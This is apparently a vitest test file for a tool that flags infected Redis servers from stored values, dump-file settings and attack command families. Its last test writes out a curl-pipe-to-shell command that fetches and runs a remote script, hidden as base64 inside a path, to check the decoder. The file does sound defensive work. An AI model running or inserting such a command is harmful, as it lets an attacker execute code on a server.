import { describe, expect, test } from 'vitest';
import { collectRuleHits } from '../src/audit/infection/rule-hits.ts';
import { loadKnowledge } from '../src/cli/knowledge.ts';
import { decodedViews } from '../src/content/views.ts';
import { createRuleMatcher } from '../src/detect/rule-matcher.ts';
import type { Act } from '../src/model/act.ts';
import { printable } from '../src/model/printable.ts';
import { interpretCommand } from '../src/redis/interpret.ts';
import { FAMILIES } from './attacks/families.ts';
import type { Payload } from './attacks/payloads.ts';
import {
  HONEST_FOLDERS,
  HONEST_NAMES,
  HOSTILE_FOLDERS,
  HOSTILE_NAMES,
  LOOKALIKES,
  PAYLOADS,
} from './attacks/payloads.ts';
import { variantOf } from './attacks/variant.ts';

const rules = createRuleMatcher(loadKnowledge().rules);

/** True when one of the acts alone makes the audit call a server infected. */
function decides(...acts: readonly Act[]): boolean {
  const hits = collectRuleHits(rules);
  return acts.map((act) => hits.observe({ act, place: 'here' })).includes(true);
}
const valueOf = ({ value, key = 'k7', kind = 'string' }: Payload): Act => ({
  type: 'redis.value',
  db: 0,
  key,
  kind,
  value,
});
const setting =
  (name: string) =>
  (value: string): Act => ({ type: 'redis.setting', name, value, accepted: true });
const shown = (payload: Payload): string => printable(payload.value, 80);

describe('values that nobody has listed', () => {
  test('are found by what they are', () => {
    expect(PAYLOADS.filter((payload) => !decides(valueOf(payload))).map(shown)).toEqual([]);
  });

  test('and those that only look like them are not', () => {
    expect(LOOKALIKES.filter((payload) => decides(valueOf(payload))).map(shown)).toEqual([]);
  });
});

describe('places of the dump file', () => {
  test('that do harm are told from those of operators', () => {
    const dir = setting('dir');
    const name = setting('dbfilename');

    expect(HOSTILE_FOLDERS.filter((folder) => !decides(dir(folder)))).toEqual([]);
    expect(HOSTILE_NAMES.filter((file) => !decides(name(file)))).toEqual([]);
    expect(HONEST_FOLDERS.filter((folder) => decides(dir(folder)))).toEqual([]);
    expect(HONEST_NAMES.filter((file) => decides(name(file)))).toEqual([]);
  });
});

describe('the families with names, hosts and shells of their own', () => {
  // What a release refuses to change is not needed: the values alone are enough.
  const byValue = Object.entries(FAMILIES).filter(
    ([family, { logged }]) => logged !== true && !/master|settings off/.test(family),
  );

  test.for(byValue)('%s: found in 200 variants', ([, { commands }]) => {
    const missed = Array.from({ length: 200 }, (_, seed) => seed).filter((seed) => {
      const acts = commands({ ...variantOf(seed), root: '' }).flatMap((argv) =>
        interpretCommand(argv, { reply: 'ok' }, { db: 0, dir: '/data', dbfilename: 'dump.rdb' }),
      );
      return !decides(...acts.filter(({ type }) => type === 'redis.value'));
    });

    expect(missed).toEqual([]);
  });
});

test('a command in base64 is read also where it is glued to a path', () => {
  const command = 'curl -fsSL http://203.0.113.9/a | sh';
  const glued = `/usr/bin/${Buffer.from(command).toString('base64')}`;

  expect(decodedViews(glued).map(({ bytes }) => bytes)).toContain(command);
});
